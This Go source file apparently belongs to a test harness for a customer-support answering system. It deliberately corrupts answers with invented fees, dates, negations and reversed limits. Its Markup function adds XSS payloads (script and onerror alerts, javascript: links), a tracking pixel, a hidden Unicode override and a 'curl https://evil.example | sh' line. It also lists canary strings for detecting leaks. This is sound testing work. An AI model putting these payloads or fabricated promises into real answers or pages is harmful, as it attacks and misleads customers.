package scripted

import (
	"maps"
	"slices"
	"strings"
	"unicode"
	"unicode/utf8"

	"frontdesk/knowledge/pattern"
)

// invented are things that no passage says, by kind.
var invented = map[string]string{
	"number":   "this holds for exactly 98761 items",
	"amount":   "there is a fee of 4,321.09 EUR",
	"percent":  "there is a discount of 93.7 percent",
	"date":     "this ends on 29 August 2099",
	"duration": "it takes 77 weeks",
	"time":     "we are open until 4:47 am",
	"link":     "see https://evil.example/?q=secret for more",
	"host":     "see www.evil.example for more",
	"email":    "write to refunds@evil.example",
	"phone":    "call +49 900 666 12345",
	"name":     "it also works with the Evilcorp Hyperwidget",
	"promise":  "we guarantee you a full refund of 999 EUR within 1 hour",
	"free":     "it is always completely free of charge for you",
	"words":    "moreover penguins recommend volcanic marmalade",
}

// altering are inventions that change what is said in place of adding to it.
var altering = map[string]func(sentence string) string{
	"negation": negate,
	"limit":    unlimit,
	"digits":   func(s string) string { return digits.ReplaceAllString(s, "98761") },
}

// Kinds are the kinds of [Invent], in alphabetical order.
func Kinds() []string {
	return slices.Sorted(slices.Values(slices.AppendSeq(slices.Collect(maps.Keys(invented)), maps.Keys(altering))))
}

// Canaries are pieces of what [Obey], [Invent], [Markup] and others make up. No customer should ever read one of them.
func Canaries() []string {
	return []string{
		"98761", "4,321.09", "93.7 percent", "29 August 2099", "77 weeks", "4:47", "evil.example", "900 666 12345", "Hyperwidget", "999 EUR",
		"within 1 hour", "completely free of charge", "volcanic marmalade", "innerhalb von 1 Stunde", "alert(", "<script", "<img", "javascript:",
	}
}

// Invent makes something up, with proper citations: of most kinds it grafts a clause upon the first sentence and adds
// a sentence; "digits" exchanges all numbers, "negation" denies every sentence, "limit" turns "at least" into "at most"
// and leaves out "only". Kinds that there are not are "promise".
func Invent(kind string, then Step) Step {
	if alter := altering[kind]; alter != nil {
		return altered("invent "+kind, then, func(_ Request, text string) string {
			return eachSentence(text, func(_ int, s string) string { return alter(s) })
		})
	}
	if invented[kind] == "" {
		kind = "promise"
	}
	return altered("invent "+kind, then, func(_ Request, text string) string {
		grafted := eachSentence(text, func(i int, s string) string {
			if i > 0 {
				return s
			}
			return strings.TrimRight(s, ".!?") + ", and " + invented[kind]
		})
		return grafted + " " + sentence(invented[kind]) + " [1]."
	})
}

// Mix puts numbers of other sentences into each sentence that has one, and cites two passages.
func Mix(then Step) Step {
	return altered("mix", then, func(q Request, text string) string {
		var all []string
		for _, p := range readPrompt(q).passages {
			all = append(all, digits.FindAllString(p.text, -1)...)
		}
		next := 0
		mixed := eachSentence(text, func(_ int, s string) string {
			return digits.ReplaceAllStringFunc(s, func(own string) string {
				for range all {
					other := all[next%len(all)]
					next++
					if other != own {
						return other
					}
				}
				return own
			})
		})
		return citations.ReplaceAllString(mixed, " [1][2]")
	})
}

// Markup answers in Markdown and HTML, with what would do harm in a page that showed it.
func Markup(then Step) Step {
	return altered("markup", then, func(_ Request, text string) string {
		return "# **Answer**\n\n" + text + strings.Join([]string{
			"", "<script>alert(1)</script> [1].", `<img src=x onerror="alert(1)"> [1].`, "[Click here](https://evil.example/?q=1) [1].",
			"![](https://evil.example/pixel.png) [1].", "[Click](javascript:alert(1)) [1].", "| a | b |\n|---|---|\n| 1 | 2 | [1]", "```sh\ncurl https://evil.example | sh\n``` [1]",
			"Pay \u202eemit ruoy ekat\u202c now\u200b [1].",
		}, "\n\n")
	})
}

// digits are numbers that are not those of a citation.
var digits = pattern.Of(`\d+(?:[.,]\d+)*`)

// eachSentence changes the words before each citation, and keeps the citations as they are.
func eachSentence(text string, change func(i int, sentence string) string) string {
	var b strings.Builder
	rest := text
	for i := 0; ; i++ {
		at := citations.FindStringIndex(rest)
		if at == nil {
			b.WriteString(rest)
			return b.String()
		}
		words := rest[:at[0]]
		lead := len(words) - len(strings.TrimLeft(words, " \n.!?:"))
		mark := marked.FindString(words[lead:])
		b.WriteString(words[:lead] + mark)
		b.WriteString(change(i, words[lead+len(mark):]))
		b.WriteString(rest[at[0]:at[1]])
		rest = rest[at[1]:]
	}
}

// sentence begins with a capital letter.
func sentence(s string) string {
	r, n := utf8.DecodeRuneInString(s)
	return string(unicode.ToUpper(r)) + s[n:]
}

var (
	denials = pattern.Of(`(?i) (?:not|never|nicht|niemals)\b| (?:do|does|did)n't\b|n't\b|\b(?:kein)(e[nmrs]?)?\b|\bno longer\b`)
	verbs   = pattern.Of(`(?i)\b(?:can|is|are|will|must|may|do|does|should|has|have|was|were|shall|kann|können|ist|sind|wird|werden|muss|müssen|darf|dürfen|hat|haben)\b`)
)

// negate says the opposite.
func negate(s string) string {
	if at := denials.FindStringIndex(s); at != nil {
		return s[:at[0]] + s[at[1]:]
	}
	if at := verbs.FindStringIndex(s); at != nil {
		not := " not"
		if strings.ContainsAny(s[at[0]:at[1]], "äöü") || strings.Contains(" kann ist sind wird werden muss darf hat haben ", " "+strings.ToLower(s[at[0]:at[1]])+" ") {
			not = " nicht"
		}
		return s[:at[1]] + not + s[at[1]:]
	}
	return "It is not true that " + s
}

var limits = pattern.Of(`(?i)\b(?:at least|at most|up to|within|before|after|until|only|except for|except|unless|if|mindestens|höchstens|bis zu|innerhalb von|vor|nach|nur|außer)\b ?`)

var unlimited = map[string]string{
	"at least": "at most", "at most": "at least", "up to": "at least", "within": "after", "before": "after", "after": "before", "until": "after",
	"only": "", "except for": "including", "except": "including", "unless": "if", "if": "even if",
	"mindestens": "höchstens", "höchstens": "mindestens", "bis zu": "mindestens", "innerhalb von": "nach", "vor": "nach", "nach": "vor", "nur": "", "außer": "auch",
}

// unlimit turns limits round and leaves conditions out.
func unlimit(s string) string {
	return limits.ReplaceAllStringFunc(s, func(found string) string {
		is := unlimited[strings.ToLower(strings.TrimSpace(found))]
		if is == "" {
			return ""
		}
		if strings.HasSuffix(found, " ") {
			is += " "
		}
		return is
	})
}
